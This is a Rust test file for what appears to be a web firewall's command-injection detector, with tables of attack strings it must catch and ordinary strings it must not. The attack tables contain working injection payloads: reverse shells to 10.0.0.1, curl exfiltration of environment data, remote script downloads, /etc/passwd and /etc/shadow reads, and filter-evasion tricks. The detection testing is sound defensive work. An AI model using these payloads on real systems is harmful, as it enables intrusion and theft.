use proptest::prelude::*;

use super::*;
use crate::budget::Limits;

fn found(value: &[u8]) -> Option<Found> {
    let mut budget = Budget::new(Limits::for_body(1 << 20));
    let needed = value.iter().any(|byte| NEEDS.alone.contains(byte))
        || NEEDS.needles.iter().any(|needle| memchr::memmem::find(value, needle.as_bytes()).is_some());
    if needed && may_match(value) { detect(value, Asked::Something, &mut budget).unwrap() } else { None }
}

fn confidence(value: &str) -> Option<Confidence> {
    found(value.as_bytes()).map(|found| found.confidence)
}

fn work(value: &[u8]) -> usize {
    let mut budget = Budget::new(Limits { parts: 1, depth: 1, decoded_bytes: 0, work: usize::MAX });
    let _ = detect(value, Asked::Something, &mut budget);
    budget.spent_work()
}

#[test]
fn the_names_of_commands_are_sorted_and_in_lower_case() {
    assert!(words::COMMANDS.is_sorted_by(|a, b| a.0 < b.0));
    for (name, meaning) in words::COMMANDS {
        assert_eq!(name.to_lowercase(), *name);
        assert_eq!(words::find(name.as_bytes()), Some(*meaning), "{name}");
    }
}

/// Rule, and values that it refuses.
const ATTACKS: &[(&str, &[&str])] = &[
    (
        "cmd-separator",
        &[
            ";whoami",
            ";htop",
            "&aptitude",
            "';mtr'",
            ";gcc10.1<<<x",
            "echo aWQ= | base64 -d | sh",
            "; whoami",
            "8.8.8.8;id",
            "8.8.8.8; id #",
            "8.8.8.8 && ls -la /home",
            "8.8.8.8 | nslookup x.example.net",
            "a & ping -n 20 127.0.0.1 &",
            "|| ping -c 20 127.0.0.1 ||",
            "x'; sleep 9; '",
            "x\"|sleep 9|\"",
            "x);uname -a",
            "file.txt;cat /etc/passwd",
            "report|cat</etc/passwd",
            "x;(sleep 9)",
            "x;{ sleep 9; }",
            "x|(curl http://a.example/x|sh)",
            "x\ncat /etc/shadow",
            "x\r\nnslookup a.example.net",
            "x;LANG=C ls /tmp",
            "x;sudo reboot -f",
            "x;if [ -f /etc/passwd ];then sleep 9;fi",
            "x; nc -e /bin/sh 10.0.0.1 4444",
            "x;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "x & dir c:\\",
            "x&type c:\\windows\\win.ini",
            "x|set /a 12*12",
            "x & net user bob secret /add",
            "x;+cat+/etc/passwd",
            "x;/usr/bin/id",
            "x|/bin/cat /etc/hosts",
            "x;perl -e 'sleep 9'",
            "x;php -r 'sleep(9);'",
            "x;python3 -c \"import time\"",
            "x;find / -name id_rsa",
            "x;env|curl -d @- http://a.example",
            "x; wget http://a.example/x.sh -O /tmp/x",
            "x|tee /var/www/html/x.php",
            "x&&certutil -urlcache -split -f http://a.example/x.exe",
            "exec;wget x.sh",
            "x;find / -name a -exec cat {} +",
            "x=/dev&&(bash)0>$x/tcp/10.0.0.1/4444",
            "x;(sh)<y",
        ],
    ),
    (
        "cmd-substitution",
        &[
            "$(whoami)",
            "`whoami`",
            "x$(sleep 9)",
            "x`sleep 9`y",
            "\"`ls -la /`\"",
            "a.$(hostname).example.net",
            "$(cat /etc/passwd)",
            "$(curl -s http://a.example/`id`)",
            "<(curl -s http://a.example)",
            "<(cat notes)",
            "x=$(echo aXA= | base64 -d)",
            "--upload-pack=`id`",
        ],
    ),
    (
        "cmd-evasion",
        &[
            "x;c''at /etc/passwd",
            "c{a,oun}t",
            "{,ifconfig}",
            "x;c\"\"at /etc/passwd",
            "x;c\\at /etc/passwd",
            "x;ca$@t /etc/passwd",
            "x;ca${z}t /etc/passwd",
            "x;w'h'oami",
            "x;who$@ami",
            "x;$'\\x63at' /etc/passwd",
            "x;{cat,/etc/passwd}",
            "{ls,-la}",
            "x;/???/c?t /etc/passwd",
            "x;/bin/c[a]t /etc/passwd",
            "x;/usr/bin/wh*ami",
            "x;ls$IFS-la",
            "x;cat${IFS}/etc/passwd",
            "x;cat$IFS$9/etc/passwd",
            "x;getent$IFS$9hosts${IFS}a.example.net",
            "x&w^hoami",
            "x|%COMSPEC% /c dir",
            "c''at /etc/passwd",
            "x`c\\at /etc/passwd`",
            "x|$u curl a.example",
            "x;$nothing whoami",
            "x;bash$u -c id",
            "$((7))z -wrapper sh,-c,id .",
            "bcdedit/v a.txt",
        ],
    ),
    (
        "cmd-command",
        &[
            "cat /etc/passwd",
            "curl http://a.example/x.sh -o /tmp/x",
            "ls -la /etc",
            "/bin/bash -c id",
            "nmap -sS 10.0.0.0/8",
            "type c:\\windows\\win.ini",
            "sh -c whoami",
            "time bash -c 'id'",
            "$SHELL -c id",
            "${SHELL} -c 'echo x'",
            "nohup netstat",
            "strace ifconfig",
            "cat /[e]tc/[p]asswd",
            "cat /etc/sudoers",
            "tar cf x --checkpoint-action=exec=id y",
            "gcc -wrapper sh,-c,id x.c",
            "alias ll=curl",
            "alias -g x='wget a.example'",
            "'cat /etc/passwd",
            "\"time sh -c id",
            "'zstdcat /var/log/a.zst",
            "ifconfig;0'0'",
            "netstat|\"",
        ],
    ),
    (
        "cmd-batch",
        &[
            "for /f \"tokens=*\" %i in ('dir /b') do echo %i",
            "x&for %i in (1 2) do echo %i",
            "if \"%1\"==\"\" goto end",
            "IF /I NOT EXIST c:\\x (md c:\\x)",
            "if %ERRORLEVEL% geq 1 echo no",
            "if /i a==b start",
            "IF /I NOT x==y CMD",
            "if red==green echo x",
            "if [a] == [b] echo x",
            "if errorlevel 2 if not errorlevel 3 echo x",
        ],
    ),
    (
        "cmd-powershell",
        &[
            "x;iex(iwr http://a.example/x.ps1)",
            "x|IEX (New-Object Net.WebClient)",
            "Invoke-Expression($x)",
            "Invoke-Expression -Command a.ps1",
        ],
    ),
    (
        "cmd-shellshock",
        &["() { :;}; echo x", "() { :; }; /bin/sh -c id", "() { _; } >_[$($())] { id; }", " ( ) { :;};id"],
    ),
    (
        "cmd-masked-path",
        &["/etc/p?sswd", "/e?c/pa??wd", "/etc/[p]asswd", "/bi[n]/bash", "/[e///]tc", "/var/[l]og/a"],
    ),
    (
        "cmd-expansion",
        &[
            "$[7*6]",
            "$((7*6))",
            "~+",
            "~-2",
            "{l,-la}s",
            "${PATH:0:1}",
            "x${HOME:0:1}etc",
            "cat ${HOME%%u*}etc",
            "${IFS}",
            "$(($() 7))",
            "$((`id`))",
            "${x#{}}",
            "${x%%/*}",
            "${x//a/b}",
            "{id,}",
            "{ifconfig,}",
            "!-1!-2",
            "!-2!3",
            ">/tmp/x",
            "2>>/dev/shm/x",
        ],
    ),
];

#[test]
fn commands_are_refused_by_the_rule_that_explains_them() {
    let mut wrong = Vec::new();
    for (rule, values) in ATTACKS {
        for value in *values {
            let seen = found(value.as_bytes()).map(|found| (found.rule.id.0, found.confidence));
            let is_right =
                seen.is_some_and(|(seen, confidence)| seen == *rule && confidence >= Confidence::High);
            if !is_right {
                wrong.push(format!("{rule}: {value}: {seen:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Ordinary values that look like commands somewhere.
const ORDINARY: &[&str] = &[
    "",
    ";",
    "| |",
    "R&D",
    "AT&T",
    "Tom & Jerry",
    "cats & dogs; find out more",
    "Sort by price; then date",
    "This is it; who knows more?",
    "Look at that; time will tell. Kill the lights & test it.",
    "Wait; more or less, the head of the tail",
    "Write us at a@b.example; or call | text",
    "name;id",
    "name|id|date",
    "id,name;date,sort",
    "cat|dog|bird",
    "red|green|blue",
    "(curl|wget|python)",
    "^(GET|POST|HEAD)$",
    "a||b",
    "x && y",
    "if (a && b) { return c; }",
    "var a = 1; let b = 2; type C = string;",
    "color: red; top: 0; cursor: help; content: 'x'",
    "$5",
    "$(this)",
    "$(document).ready(function() { $('#id').hide(); })",
    "$(id).find('a')",
    "Price: $20 (was $30)",
    "C:\\Program Files\\App",
    "https://a.example/?id=1&sort=asc&date=2020&type=x",
    "https://a.example/?cat=5&find=x;time=3",
    "Fish &amp; chips &lt;3 &nbsp;",
    "rock 'n' roll & soul",
    "it's; that's; who's",
    "0 3 * * * root",
    "sum(rate(http_requests_total{job=\"api\"}[5m])) by (host)",
    "{name} and {id}",
    "Hello {first,last}",
    "`name`",
    "Set `id` and `date`",
    "${name}",
    "${user.home}",
    "Hello ${first} ${last}",
    "/usr/bin/env",
    "/api/v1/users?id=1",
    "/**/*.js",
    "/etc/nginx/*.conf",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko",
    "text/html; charset=utf-8",
    "a=1; path=/; secure",
    "() => { return 1; }",
    "function () { return x; }",
    "for x in (1, 2, 3): print(x)",
    "for the win; if it works",
    "if a == b then c",
    "What if 100% of them are in (or out)?",
    "Python 3",
    "Go 1.22",
    "node 20",
    "Python 3; Perl 5; PHP 8",
    "sleep more & eat less",
    "Echo & the Bunnymen",
    "Top | Bottom",
    "Men > Shoes > Running",
    "a < b; c > d",
    "x\ny\nz",
    "Dear all,\nfind attached the date.\nKind regards",
    "shopping:\ncat food\ntime magazine\n",
    "whoami",
    "!important",
    "~",
    "~5",
    "~/notes",
    "~-x",
    "~+15 min",
    "$[price]",
    "$((a))",
    "(7*6)",
    "alias",
    "alias of Ann",
    "alias: a=b",
    "aliases a=b",
    "if a==b then stop",
    "if /interested call",
    "if x == y",
    "{a,-b}",
    "{png,jpg}",
    "{l,-la}x y",
    "*.{js,ts}",
    "c{a,b}d",
    "/docs/[slug]/edit",
    "/blog/[2024]/x",
    ";next",
    "time sharing",
    "time to sh",
    "python3.10",
    "mp3.1",
    "a <(b) c",
    "'tis the season",
    "'find me",
    "\"docker compose",
    "time; sort it out",
    "time; curl",
    "sed/a",
    "docs/grep/x",
    "a|$b",
    "price|$5 off",
    "/users/[id]/edit",
    "/[x]",
    "${x}",
    "${x-y}",
    "${a/b}",
    "{id,name}",
    "{name,}",
    "!-1",
    "!important!",
    "no!-1",
    ">/home/a",
    "> /tmp is full",
    "->/tmp/x",
    "find it {} + more",
];

/// Commands in text: suspicious at most.
const TEXT: &[&str] = &[
    "whoami;",
    "Use `ls -la` to list all the files of a folder.",
    "Then run `npm install && npm start` in your terminal.",
    "To reproduce:\n\n```sh\ncurl -s http://localhost:8080/ | jq .\ncat /etc/hosts\n```\n\nThanks for having a look!",
    "```\n$ uname -a\nLinux host 6.1\n$ ls -la /tmp\n```",
    "#!/bin/sh\nset -e\ncd /srv/app\ngit pull && make install\n",
    "Fix the build; run make clean && make all before you push to the server",
    "RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
    "all: build\n\tcc -o $(OUT) $(SRC)\n\nclean:\n\trm -f $(OUT)\n",
    "15 4 * * * cd /srv && ./backup.sh > /dev/null 2>&1",
    "curl -f http://localhost/healthz || exit 1",
    "The shell expands $HOME; see the manual for what $(date) does in there.",
    "We grep the logs with: cat access.log | grep 500 | sort | uniq -c",
    "%%bash\ncat /proc/cpuinfo | grep model",
    "I ran ping 8.8.8.8 & traceroute, both fine; what else could be wrong here?",
    "echo $PATH",
    ";up",
    "& go",
    "sleep 5",
    "docker run -it --rm alpine sh",
    "git log --oneline | head",
    "the `whoami` command",
    "run `netstat` now",
    "what does `ls` do",
    "CRON[77]: (root) CMD (cd / && run-parts --report /etc/cron.daily)",
];

#[test]
fn ordinary_values_are_no_commands() {
    let wrong: Vec<_> = ORDINARY
        .iter()
        .filter(|value| confidence(value) >= Some(Confidence::Medium))
        .map(|value| (value, found(value.as_bytes())))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn commands_in_texts_are_never_refused() {
    let wrong: Vec<_> = TEXT
        .iter()
        .filter(|value| confidence(value) >= Some(Confidence::High))
        .map(|value| (value, found(value.as_bytes())))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn who_is_asked_tells_what_a_command_means() {
    let sure = |part, name: &[u8], value: &[u8]| {
        let mut budget = Budget::new(Limits::for_body(1 << 20));
        let asked = Asked::of(&Field { part, name, value });
        detect(value, asked, &mut budget).unwrap().map(|found| found.confidence)
    };
    let rows: &[(Part, &[u8], &[u8], bool)] = &[
        (Part::Header, b"User-Agent", b";set", true),
        (Part::Header, b"Referer", b"|env", true),
        (Part::Header, b"User-Agent", b"Mozilla/5.0 (X11; set)", false),
        (Part::Header, b"X-Tags", b";set", false),
        (Part::Query, b"q", b";set", false),
        (Part::Form, b"code", b"x; ansible all -m ping", true),
        (Part::Form, b"text", b"x; ansible all -m ping", false),
        (Part::Form, b"args", b"perf --version", true),
        (Part::Form, b"q", b"perf --version", false),
        (Part::Form, b"cmd", b"/bin/a", true),
        (Part::Form, b"q", b"/bin/a", false),
    ];
    for (part, name, value, is_attack) in rows {
        let seen = sure(*part, name, value) >= Some(Confidence::High);
        assert_eq!(seen, *is_attack, "{}={}", name.escape_ascii(), value.escape_ascii());
    }
}

#[test]
fn what_stands_before_an_attack_hides_it_only_as_prose() {
    let attack = "; cat /etc/passwd";
    for before in ["", "1", "1.2.3.4", "O'Neil", "a b c", &"A".repeat(100_000)] {
        assert!(confidence(&format!("{before}{attack}")) >= Some(Confidence::High), "{before:.20}");
    }
}

#[test]
fn evidence_begins_where_the_command_is_opened() {
    let found = found(b"127.0.0.1; cat /etc/passwd").unwrap();
    assert_eq!((found.start, found.end), (9, 26));
}

#[test]
fn work_is_bounded_by_a_multiple_of_the_length() {
    let hostile: &[&str] = &[
        ";",
        "|",
        "&",
        "\n",
        "`",
        "$(",
        "${",
        "$IFS",
        "{a,",
        "'",
        "\"",
        "\\",
        "$'",
        "<(",
        ";ls ",
        ";ls '",
        ";c''",
        ";/???/c?t ",
        ";/bin/*",
        "if \"%",
        "for %i in (",
        "time ",
        ";time ",
        ";x=1 ",
        "() {",
        "${PATH",
        ";sudo ",
        "$((",
        "`id` ",
        "a ",
        "\u{0}",
    ];
    for piece in hostile {
        for before in ["", "x", ";ls '"] {
            let value = format!("{before}{}", piece.repeat(4_000));
            let units = work(value.as_bytes());
            assert!(units <= 32 * value.len() + 256, "{units} units for {} bytes of {piece:?}", value.len());
        }
    }
}

fn pieces() -> impl Strategy<Value = String> {
    const PIECES: &[&str] = &[
        ";",
        "|",
        "&",
        "\n",
        "`",
        "$(",
        ")",
        "${",
        "}",
        "$IFS",
        "{",
        ",",
        "'",
        "\"",
        "\\",
        "^",
        "%",
        "<",
        ">",
        "(",
        "[",
        "]",
        "*",
        "?",
        " ",
        " ",
        "+",
        "cat",
        "id",
        "ls",
        "/etc/passwd",
        "/bin/",
        "-la",
        "http://a",
        "for",
        "if",
        "in",
        "==",
        "sudo",
        "time",
        "x=1",
        "iex",
        "()",
        "1",
        "é",
        "\0",
    ];
    proptest::collection::vec(proptest::sample::select(PIECES), 0..16).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_bytes_make_it_panic(value in proptest::collection::vec(any::<u8>(), 0..512)) {
        let _ = found(&value);
    }

    #[test]
    fn evidence_lies_inside_of_the_value_and_the_needs_are_met(value in pieces()) {
        let mut budget = Budget::new(Limits::for_body(1 << 20));
        if let Some(found) = detect(value.as_bytes(), Asked::Something, &mut budget).unwrap() {
            prop_assert!(found.start <= found.end && found.end <= value.len(), "{found:?}");
            if found.confidence >= Confidence::High {
                prop_assert!(may_match(value.as_bytes()), "{found:?}");
            }
        }
    }

    #[test]
    fn an_attack_stays_one_whatever_the_case_and_the_blanks(blanks in "[ \t]{1,3}", name in "[a-z0-9.]{0,12}") {
        for value in [format!("{name};{blanks}cat{blanks}/etc/passwd"), format!("{name}|{blanks}DIR{blanks}C:\\")] {
            prop_assert!(confidence(&value) >= Some(Confidence::High), "{value}");
        }
    }
}
